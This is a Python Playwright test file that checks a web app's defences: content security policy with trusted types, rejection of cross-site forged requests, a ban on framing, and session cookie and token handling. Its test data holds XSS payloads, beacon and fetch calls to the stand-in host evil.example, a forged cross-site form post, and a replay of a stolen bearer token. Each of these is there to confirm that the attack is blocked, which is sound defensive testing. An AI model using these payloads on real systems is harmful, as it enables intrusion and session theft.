"""What a browser does with the pages under attack: no foreign script, no forged request, no frame."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page

from tests.e2e.conftest import PATIENCE_S, Publisher, connect, read, sign_in
from tests.support.stack import Stack, wait_for

REPORTED = """
window.reports = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.reports.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
SCREENS = (
    "/", "/dashboard", "/analytics?range=30d", "/account-settings", "/account-settings?tab=websites", "/onboarding",
    "/nowhere", "/admin", "/admin/projections", "/admin/dead-letters", "/admin/system", "/conversions", "/sql",
    "/marketplace", "/marketplace/sell", "/forum", "/forum/new", "/notifications",
)  # fmt: skip


def test_no_screen_breaks_its_own_policy(admin_stack: Stack, context: BrowserContext, api: httpx.Client) -> None:
    """Content security policy with trusted types: 0 reports on every screen, signed in as an admin."""
    connect(api, "policy.example")
    context.add_init_script(REPORTED)
    page = context.new_page()
    page.goto(f"{admin_stack.app}/login")
    assert page.evaluate("window.reports") == []
    sign_in(page, admin_stack.app)
    for screen in SCREENS:
        page.goto(admin_stack.app + screen)
        page.locator("h1").first.wait_for()
        page.wait_for_load_state("load")
        assert page.evaluate("window.reports") == [], screen


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("document.body.innerHTML = '<img src=x onerror=alert(1)>'", "require-trusted-types-for"),
        ("document.write('<p>')", "require-trusted-types-for"),
        ("document.createElement('script').text = 'alert(1)'", "require-trusted-types-for"),
        ("new Function('return 1')", "require-trusted-types-for"),
        ("trustedTypes.createPolicy('mine', {createHTML: (text) => text})", "trusted-types"),
        ("fetch('https://evil.example/')", "connect-src"),
        ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
        ("new Image().src = 'https://evil.example/x.png'", "img-src"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))", "frame-src"),
    ],
)
def test_injected_code_does_nothing(admin_stack: Stack, context: BrowserContext, attack: str, directive: str) -> None:
    context.add_init_script(REPORTED)
    page = context.new_page()
    page.on("dialog", lambda dialog: pytest.fail(f"the attack ran: {dialog.message}"))
    page.goto(f"{admin_stack.app}/login")
    # In a later task, as an injection would run: errors of what was refused stay there.
    page.evaluate(
        "() => new Promise((done) => { setTimeout(() => { try { Promise.resolve((0, () => { " + attack + " })())"
        ".catch(() => 0); } catch {} done(); }); })"
    )
    wait_for(
        lambda: any(report.startswith(directive) for report in page.evaluate("window.reports")),
        f"a report of {directive}",
    )


def test_another_site_cannot_act_for_who_is_signed_in(
    admin_stack: Stack, page: Page, context: BrowserContext, publisher: Publisher, api: httpx.Client
) -> None:
    """Forms and scripts of a foreign page, with the browser's cookies: nothing is done and nothing is read."""
    sign_in(page, admin_stack.app)
    before = domains(api)
    publisher.html = (
        f"<!doctype html><form id=f method=post enctype=text/plain action='{admin_stack.app}/api/platform/websites'>"
        '<input name=\'{"domain":"forged.example","x":"\' value=\'"}\'></form><iframe id=i></iframe>'
    )
    foreign = context.new_page()
    foreign.goto(publisher.url)
    found: Any = foreign.evaluate(
        """async (app) => {
          const outcomes = {};
          const attempt = async (name, make) => {
            try { const answer = await make(); outcomes[name] = answer.type === 'opaque' ? 'opaque' : answer.status; }
            catch { outcomes[name] = 'refused'; }
          };
          const body = JSON.stringify({domain: 'forged.example'});
          const post = {method: 'POST', credentials: 'include', body};
          await attempt('read', () => fetch(`${app}/api/platform/user`, {credentials: 'include'}));
          await attempt('json', () => fetch(`${app}/api/platform/websites`,
            {...post, headers: {'Content-Type': 'application/json'}}));
          await attempt('header', () => fetch(`${app}/api/platform/websites`, {...post,
            headers: {'X-Requested-With': 'x'}}));
          await attempt('simple', () => fetch(`${app}/api/platform/websites`, {...post, mode: 'no-cors'}));
          await attempt('beacon', async () => ({status: navigator.sendBeacon(`${app}/api/platform/logout`, 'x')}));
          return outcomes;
        }""",
        admin_stack.app,
    )
    assert (found["read"], found["json"], found["header"]) == ("refused", "refused", "refused"), found
    with foreign.expect_response("**/api/platform/websites") as sent:
        foreign.evaluate("document.getElementById('f').submit()")
    assert sent.value.status == 403 and sent.value.json()["code"] == "cross_site"
    assert domains(api) == before
    page.reload()
    page.get_by_role("button", name="Account of").wait_for()


def domains(api: httpx.Client) -> list[str]:
    """Of all websites; when they were first seen may change meanwhile."""
    return [site["domain"] for site in read(api, "/api/platform/websites")]


def test_our_pages_are_shown_in_no_frame(admin_stack: Stack, context: BrowserContext, publisher: Publisher) -> None:
    publisher.html = f"<!doctype html><iframe src='{admin_stack.app}/login'></iframe>"
    foreign = context.new_page()
    foreign.goto(publisher.url)
    foreign.wait_for_load_state("networkidle")
    inner = foreign.frames[1]
    assert inner.locator("input").count() == 0


def test_the_sessions_cookie_is_out_of_scripts_reach(admin_stack: Stack, page: Page, context: BrowserContext) -> None:
    sign_in(page, admin_stack.app)
    [cookie] = [one for one in context.cookies() if one["name"].endswith("sid")]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Lax" and cookie["path"] == "/"
    assert page.evaluate("document.cookie") == ""
    # The token alone, as a thief would have it from local storage, opens nothing in another browser.
    token = page.evaluate("localStorage.getItem('authToken')")
    assert token
    stolen = {"Authorization": f"Bearer {token}", "Origin": admin_stack.app, "Sec-Fetch-Site": "same-origin"}
    by_program = {"Authorization": stolen["Authorization"]}
    for path in ("/api/platform/user", "/api/platform/websites", "/api/platform/export", "/api/admin/audit-trail"):
        for headers in (stolen, by_program):
            assert httpx.get(admin_stack.app + path, headers=headers, timeout=PATIENCE_S).status_code == 401
